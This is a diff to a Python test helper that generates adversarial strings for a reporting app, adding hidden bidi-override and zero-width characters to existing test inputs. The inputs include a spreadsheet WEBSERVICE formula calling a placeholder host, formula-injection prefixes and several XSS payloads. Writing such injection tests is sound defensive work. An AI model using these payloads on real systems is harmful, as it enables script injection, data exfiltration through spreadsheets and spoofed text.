@@ -17,6 +17,7 @@ from typing import Any
 import pytest
 
 from reportkit.app.run import make
+from reportkit.base.visible import visible
 from reportkit.study import rooms
 
 JOBS = Path(__file__).parent.parent / "jobs"
@@ -33,6 +34,9 @@ BEGINNINGS = (
     '=WEBSERVICE("http://KEY.invalid/")', "\uff1d1+1",
 )  # fmt: skip
 
+#: What turns text round and what hides, at the end of each text (UAX #9, U+202E and U+2067; U+200B, U+FEFF).
+HIDDEN = "10.\u202e001 a\u200bb \u2067c\ufeff."
+
 #: What follows, two of each in a text.
 MIDDLE = (
     """"'><script>RUN</script><img src=x onerror="RUN"><svg/onload=RUN><a href=javascript:RUN>""",
@@ -48,7 +52,7 @@ MIDDLE = (
 
 
 class Texts:
-    """Texts made one after another; ``made`` holds each by its mark."""
+    """Texts made one after another; ``made`` holds each by its mark, as it is to be seen."""
 
     def __init__(self) -> None:
         self.made: dict[str, str] = {}
@@ -60,11 +64,11 @@ class Texts:
         start = BEGINNINGS[number % len(BEGINNINGS)]
         # two of the kinds in each, so that each stands in several fields and none is too long for a label
         parts = [MIDDLE[(number + step) % len(MIDDLE)] for step in (0, 4)]
-        text = f"{start} {key} {' '.join(parts)}".replace("RUN", RUN).replace("KEY", key)
+        text = f"{start} {key} {' '.join(parts)} {HIDDEN}".replace("RUN", RUN).replace("KEY", key)
         if len(text) > longest:
             text = f"={key}<b>$1$"
         assert len(text) <= longest
-        self.made[key] = text
+        self.made[key] = visible(text)
         return text
 
 
